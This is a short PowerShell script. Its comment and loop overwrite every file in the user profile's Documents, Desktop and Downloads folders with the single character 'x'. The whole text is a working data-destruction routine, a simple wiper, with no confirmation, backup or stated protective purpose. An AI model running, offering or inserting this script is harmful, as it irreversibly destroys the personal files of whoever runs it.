# Each file under the profile's data folders overwritten, the folders joined to the profile in a loop.
$folders = @("Documents", "Desktop", "Downloads")
foreach ($f in $folders) {
  $p = Join-Path $env:USERPROFILE $f
  Get-ChildItem -Path $p -Recurse -File | ForEach-Object { Set-Content -Path $_.FullName -Value "x" }
}
